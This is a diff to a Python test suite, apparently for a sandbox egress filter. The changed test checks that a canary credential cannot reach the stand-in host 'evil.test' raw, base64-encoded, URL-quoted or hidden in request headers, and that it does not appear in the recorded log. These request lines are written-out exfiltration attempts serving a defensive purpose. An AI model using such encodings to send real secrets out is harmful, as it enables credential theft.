@@ -290,14 +290,15 @@ def chunks(*pieces):
 def P08_what_was_lent_to_a_cell_does_not_leave_by_its_hand():
     coded = base64.urlsafe_b64encode(CANARY.encode()).decode().rstrip('=')
     for line, more in (('GET /echo/' + coded, ''),
+                       ('GET /echo/' + CANARY, ''),
                        ('GET /echo/?q=' + urllib.parse.quote(CANARY, safe=''), ''),
                        ('GET /echo/', 'X-Note: %s\r\n' % CANARY),
                        ('GET /echo/', 'X-Note: %s\r\n' % CANARY.encode().hex())):
         had = sent('evil')
-        with held('brings a credential', 'request_outcome', arrives=True,
-                  others=['request_outcome']):
+        with held('brings a credential', arrives=True, others=['request_outcome']) as seen:
             cell(to('good.test', head()), to('evil.test', head(line, 'evil.test', more)))
         need(sent('evil') == had, 'it left')
+        need(coded not in json.dumps(seen), 'the book has it', seen)
     arrives(to('evil.test', head('GET /echo/', 'evil.test', 'X-Note: nothing\r\n')))
     # In a body: of a length nothing leaves, of pieces not the whole value.
     def echo(body, more='Content-Length: %d\r\n'):
